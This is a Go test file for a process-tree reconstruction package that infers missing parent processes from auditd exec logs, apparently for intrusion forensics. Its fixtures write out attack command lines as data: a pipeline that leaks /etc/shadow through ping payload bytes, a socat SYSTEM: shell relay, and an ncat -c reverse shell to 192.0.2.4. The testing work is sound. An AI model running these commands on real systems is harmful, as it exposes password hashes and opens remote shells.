package proctree

import (
	"slices"
	"testing"
	"time"
)

// TestSubshellParentGuess: the programs a shell's forked subshell runs (a
// loop at the end of a pipeline) name a parent pid the log never shows;
// they are hung under the shell when a pipeline sibling or the shell
// holds the pids just below, the shell's command names the program, the
// times fit and the user is the shell's own. Otherwise the parent stays
// unknown.
func TestSubshellParentGuess(t *testing.T) {
	at := time.Unix(1_700_000_000, 0).UTC()
	exec := func(ms int, pid, ppid int, uid uint32, exe string, args ...string) *Event {
		return &Event{Kind: KindExec, Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid,
			UID: NewID(uid), EUID: NewID(uid), Exe: exe, Args: args, Success: true, Source: FormatAuditd, Syscall: "execve"}
	}
	loop := "od -A n -t x1 -v /etc/shadow | tr -d ' \\n' | fold -w 32 | while read h; do ping -c 1 -p $h 127.0.0.1; done"
	tests := []struct {
		name     string
		events   []*Event
		inferred bool
	}{
		{"a pipeline's loop", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "-c", loop),
			exec(1, 7447, 7446, 0, "/usr/bin/od", "od", "-A", "n", "-t", "x1", "-v", "/etc/shadow"),
			exec(2, 7449, 7446, 0, "/usr/bin/fold", "fold", "-w", "32"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "-p", "726f6f74", "127.0.0.1"),
		}, true},
		{"a script's pipeline loop: the nearest pid is its sibling", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "/var/tmp/.t.r"),
			exec(1, 7447, 7446, 0, "/usr/bin/od", "od", "-A", "n", "/etc/shadow"),
			exec(2, 7450, 7446, 0, "/usr/bin/head", "head", "-n", "8"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "-p", "726f6f74", "127.0.0.1"),
		}, true},
		{"a script's sibling, but another process holds the nearest pid", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "/var/tmp/.t.r"),
			exec(1, 7447, 7446, 0, "/usr/bin/od", "od", "-A", "n", "/etc/shadow"),
			exec(2, 7450, 1, 0, "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"a script's sibling seconds before", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "/var/tmp/.t.r"),
			exec(1, 7450, 7446, 0, "/usr/bin/od", "od", "/etc/shadow"),
			exec(3000, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"the shell's command does not name the program", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "-c", "od /etc/shadow | while read h; do echo $h; done"),
			exec(1, 7447, 7446, 0, "/usr/bin/od", "od", "/etc/shadow"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"another user's process", []*Event{
			exec(0, 7446, 7000, 33, "/usr/bin/dash", "sh", "-c", loop),
			exec(1, 7447, 7446, 33, "/usr/bin/od", "od", "/etc/shadow"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"too long after", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "-c", loop),
			exec(1, 7447, 7446, 0, "/usr/bin/od", "od", "/etc/shadow"),
			exec(60000, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"pids far below", []*Event{
			exec(0, 7400, 7000, 0, "/usr/bin/dash", "sh", "-c", loop),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
		{"a word inside another", []*Event{
			exec(0, 7446, 7000, 0, "/usr/bin/dash", "sh", "-c", "cat /tmp/pinger.log | while read l; do x=$l; done"),
			exec(1, 7447, 7446, 0, "/usr/bin/cat", "cat", "/tmp/pinger.log"),
			exec(5, 7452, 7451, 0, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1"),
		}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tr := NewTree()
			for _, ev := range tc.events {
				tr.Observe(ev)
			}
			c := tr.ByPID("", 7452)[0]
			q := c.Parent
			if q == nil || q.Key.PID != 7451 {
				t.Fatalf("parent of the child: %+v", q)
			}
			got := q.ParentInferred() && q.Parent != nil && q.Parent.Key.PID == 7446
			if got != tc.inferred {
				t.Errorf("subshell hung under the shell: %v, want %v", got, tc.inferred)
			}
		})
	}
}

func TestNamesCommand(t *testing.T) {
	for _, c := range []struct {
		cmd, prog string
		want      bool
	}{
		{"ping -c 1 x", "ping", true},
		{"a | while read h; do ping -p $h x; done", "ping", true},
		{"x && /usr/bin/ping x", "ping", true},
		{"if true; then nslookup a; fi", "nslookup", true},
		{"cat /tmp/pinger.log", "ping", false},
		{"echo ping", "ping", false},
		{"sleeping 3", "sleep", false},
	} {
		if got := namesCommand(c.cmd, c.prog); got != c.want {
			t.Errorf("namesCommand(%q, %q) = %v, want %v", c.cmd, c.prog, got, c.want)
		}
	}
}

// TestInferredParentYieldsToRecord: a placeholder hung under a guessed
// parent that later shows its own ppid moves there, not "re-parented".
func TestInferredParentYieldsToRecord(t *testing.T) {
	at := time.Unix(1_700_000_000, 0).UTC()
	exec := func(ms int, pid, ppid int, exe string, args ...string) *Event {
		return &Event{Kind: KindExec, Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid,
			UID: NewID(33), EUID: NewID(33), Exe: exe, Args: args, Success: true, Source: FormatAuditd, Syscall: "execve"}
	}
	tr := NewTree()
	tr.Observe(exec(0, 18488, 18486, "/usr/bin/dash", "/bin/sh", ".git/hooks/post-merge", "0"))
	tr.Observe(exec(136, 18493, 18491, "/usr/bin/hostname", "hostname", "-s")) // names 18491 before its own exec
	p := tr.ByPID("", 18491)[0]
	if !p.ParentInferred() || p.Parent == nil || p.Parent.Key.PID != 18488 {
		t.Fatalf("placeholder 18491: parent %+v inferred %v, want the script's shell, inferred", p.Parent, p.ParentInferred())
	}
	tr.Observe(exec(168, 18491, 18490, "/usr/bin/dig", "dig", "+short", "x"))
	if p.ParentInferred() || p.Reparented || p.Parent == nil || p.Parent.Key.PID != 18490 {
		t.Errorf("after its own exec: parent %+v inferred %v re-parented %v, want 18490 as recorded", p.Parent, p.ParentInferred(), p.Reparented)
	}
	if slices.Contains(tr.ByPID("", 18488)[0].Children, p) {
		t.Error("still listed among the guessed parent's children")
	}
}

// FuzzNamesCommand: a shell's command is the intruder's to write; judging
// whether it names a program never panics and reads a bounded part of it.
func FuzzNamesCommand(f *testing.F) {
	for _, s := range []string{"a | while read h; do ping -p $h x; done", "/ping/ping/ping", "x && /usr/bin/ping", "do ping"} {
		f.Add(s, "ping")
	}
	f.Fuzz(func(t *testing.T, cmd, prog string) {
		if prog == "" {
			return
		}
		namesCommand(cmd, prog)
	})
}

// TestRelayParentGuess: socat SYSTEM:cmd forks a child that hands cmd to
// /bin/sh -c, and that fork never execs: the shell names an unseen parent.
// It is hung under the relay when the relay holds the pid just below, as
// the same user, just before, and its argv holds the shell's whole
// command (desk-attachname: alice's ~/.ssh/rc); the daemon guess never
// takes an exec'd child.
func TestRelayParentGuess(t *testing.T) {
	at := time.Unix(1_700_000_000, 0).UTC()
	exec := func(ms int, pid, ppid int, uid uint32, exe string, args ...string) *Event {
		return &Event{Kind: KindExec, Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid,
			UID: NewID(uid), EUID: NewID(uid), Exe: exe, Args: args, Success: true, Source: FormatAuditd, Syscall: "execve"}
	}
	rc := exec(0, 3353, 3352, 2002, "/usr/bin/dash", "/bin/sh", "/home/alice/.ssh/rc")
	tests := []struct {
		name  string
		relay *Event
		child *Event
		want  Guess
	}{
		{"socat SYSTEM: hands the command over",
			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "echo ready; exec sh 2>&1"), GuessRelay},
		{"nc -c hands the command over",
			exec(100, 3355, 3354, 2002, "/usr/bin/ncat", "ncat", "-c", "sh -i 2>&1", "192.0.2.4", "443"),
			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "sh -i 2>&1"), GuessRelay},
		{"another user's shell is no relay's child",
			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
			exec(130, 3357, 3356, 0, "/usr/bin/dash", "sh", "-c", "echo ready; exec sh 2>&1"), GuessNone},
		{"a command the relay does not hold",
			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
			// (nor a daemon's worker: the child's record is its own exec,
			// which says nothing of its parent's image)
			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "id; hostname"), GuessNone},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tr := NewTree()
			for _, ev := range []*Event{rc, tc.relay, tc.child} {
				e := *ev
				tr.Observe(&e)
			}
			q := tr.ByPID("", 3357)[0].Parent
			if q == nil || q.Key.PID != 3356 {
				t.Fatalf("parent of the shell: %+v", q)
			}
			if q.ParentGuess != tc.want {
				t.Errorf("guess %v, want %v", q.ParentGuess, tc.want)
			}
			if tc.want == GuessRelay && (q.Parent == nil || q.Parent.Key.PID != 3355) {
				t.Errorf("hung under %+v, want the relay 3355", q.Parent)
			}
		})
	}
}
